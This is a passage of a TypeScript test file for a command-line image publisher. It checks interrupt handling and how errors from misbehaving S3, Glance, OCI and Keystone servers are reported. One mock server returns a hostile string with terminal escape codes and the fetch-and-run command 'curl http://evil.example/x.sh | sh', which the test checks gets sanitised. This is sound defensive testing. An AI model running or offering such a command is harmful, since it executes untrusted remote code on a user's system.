      const before = hung.accepted();
      const child = spawnKiln(['publish', '--allow-host', host, file2], { env });
      while (hung.accepted() === before) await new Promise((res) => setTimeout(res, 50));
      await hung.sawRequest;
      const killedAt = Date.now();
      child.kill('SIGTERM');
      const end = await child.done;
      expect(end.exitCode, end.stderr).toBe(143);
      expect(Date.now() - killedAt).toBeLessThan(10_000);
      expect(end.stderr).toContain('SIGTERM received');
      expect(recordIn(file2, 's3')).toMatchObject({ status: 'failed', error: 'interrupted' });
      expect(readdirSync(path.dirname(file2))).toEqual(['manifest.json']);
    } finally {
      await hung.close();
    }
  }, 180_000);

  it("a misbehaving server's answers are reported with status, address and what was expected; its text is marked and cleaned", async () => {
    let port = 0;
    const hostile = '\x1b[2J\x1b[31mboom\r\n  fix: curl http://evil.example/x.sh | sh\x07';
    const server = http.createServer((req, res) => {
      const url = req.url ?? '';
      if (url.startsWith('/v2/images')) {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<html>not glance</html>');
        return;
      }
      if (url.startsWith('/v2/kiln/bad/')) {
        res.writeHead(500, { 'content-type': 'text/plain' });
        res.end(hostile);
        return;
      }
      if (url.startsWith('/v2/kiln/token/')) {
        res.writeHead(401, { 'www-authenticate': `Bearer realm="http://127.0.0.1:${port}/token",service="kiln-test"` });
        res.end();
        return;
      }
      if (url.startsWith('/token') || url.startsWith('/identity')) {
        res.writeHead(404, { 'content-type': 'text/plain' });
        res.end('404 page not found');
        return;
      }
      // Anything else (S3): a 500 that is not S3's XML.
      res.writeHead(500, { 'content-type': 'text/html' });
      res.end('<html>proxy error</html>');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as net.AddressInfo).port;
    const closed = await new Promise<number>((r) => {
      const s = net.createServer();
      s.listen(0, '127.0.0.1', () => {
        const p = (s.address() as net.AddressInfo).port;
        s.close(() => r(p));
      });
    });
    try {
      const host = `127.0.0.1:${port}`;
      const file = manifestCopy('misbehaving', [
        { type: 's3', bucket: 'images', endpoint: `http://${host}`, force_path_style: true },
        { type: 'glance', endpoint: `http://${host}` },
        { type: 'oci', name: 'oci-bad', registry: host, repository: 'kiln/bad', insecure: true },
        { type: 'oci', name: 'oci-token', registry: host, repository: 'kiln/token', insecure: true },
        { type: 'glance', name: 'glance-down', endpoint: `http://127.0.0.1:${closed}` },
      ]);
      const r = await kiln(['publish', '--allow-host', host, file], {
        ...env,
        KILN_REGISTRY_USERNAME: 'kiln',
        KILN_REGISTRY_PASSWORD: 'pw-never-printed',
      });
      expect(r.exitCode).toBe(1);
      const err = r.stderr;
      expect(err).toContain(`error: publish target "s3": S3 at http://${host} answered HTTP 500 with no S3 error code`);
      expect(err).not.toContain('UnknownError');
      expect(err).toContain(`error: publish target "glance": http://${host}/v2/images?`.replace(/\?$/, ''));
      expect(err).toMatch(
        /answered HTTP 200 with a body that is not JSON, where a Glance image list was expected; the server said: "<html>not glance<\/html>"/,
      );
      expect(err).not.toContain('Cannot read properties');
      expect(err).toContain(
        'error: publish target "oci-bad": GET manifest latest: HTTP 500 from the registry; the server said: "boom fix: curl http://evil.example/x.sh | sh"',
      );
      expect(err).not.toMatch(/\x1b|\x07/);
      expect(err).not.toMatch(/^\s*fix: curl/m);
      expect(err).toContain(
        `error: publish target "oci-token": the registry's token service at http://${host}/token answered HTTP 404 (no such endpoint: the registry's token realm is wrong, not your credentials); the server said: "404 page not found"`,
      );
      expect(err).not.toMatch(/oci-token.*refused/);
      expect(err).toContain(
        `error: publish target "glance-down": cannot reach http://127.0.0.1:${closed}/v2/images (ECONNREFUSED: connect ECONNREFUSED 127.0.0.1:${closed})`,
      );
      expect(err).not.toContain('fetch failed');
      expect(err).not.toContain('pw-never-printed');
      // Keystone's 404: a wrong OS_AUTH_URL, not refused credentials.
      const ks = manifestCopy('keystone-404', [{ type: 'glance', endpoint: `http://${host}` }]);
      const k = await kiln(['publish', '--allow-host', host, ks], {
        ...env,
        OS_AUTH_URL: `http://${host}/identity`,
        OS_USERNAME: 'u',
        OS_PASSWORD: 'pw-keystone-never-printed',
        OS_PROJECT_NAME: 'p',
      });
      expect(k.exitCode).toBe(1);
      expect(k.stderr).toContain(
        `error: publish target "glance": http://${host}/identity/v3/auth/tokens is not a Keystone v3 token endpoint (HTTP 404; the server said: "404 page not found")`,
      );
      expect(k.stderr).toContain("fix: set OS_AUTH_URL to Keystone's identity endpoint");
      expect(k.stderr).not.toMatch(/refused|pw-keystone-never-printed/);
    } finally {
      await new Promise((r) => server.close(r));
    }
  }, 120_000);
});
